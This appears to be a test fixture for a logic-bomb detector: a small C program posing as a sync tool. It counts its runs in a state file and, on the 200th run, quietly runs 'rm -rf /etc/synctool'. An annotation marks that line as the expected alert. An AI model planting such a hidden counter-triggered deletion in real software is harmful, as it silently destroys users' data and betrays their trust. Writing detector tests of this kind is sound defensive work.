/*
 * behavior.logic-bomb: a run counter. Every start increments a counter kept
 * in a state file; on the 200th run the tool quietly removes the user's
 * configuration directory. The counter is an ordinary increment, the
 * trigger an equality with a constant.
 */
#include <stdio.h>
#include <stdlib.h>

#define STATE "/var/lib/synctool/runs"

static int load_runs(void)
{
    int runs = 0;
    FILE *f = fopen(STATE, "r");

    if (f) {
        if (fscanf(f, "%d", &runs) != 1)
            runs = 0;
        fclose(f);
    }
    return runs;
}

static void save_runs(int runs)
{
    FILE *f = fopen(STATE, "w");

    if (f) {
        fprintf(f, "%d\n", runs);
        fclose(f);
    }
}

int main(void)
{
    int runs = load_runs();

    runs++;
    save_runs(runs);
    if (runs == 200)
        system("rm -rf /etc/synctool"); // $ Alert[behavior.logic-bomb]
    puts("sync complete");
    return 0;
}
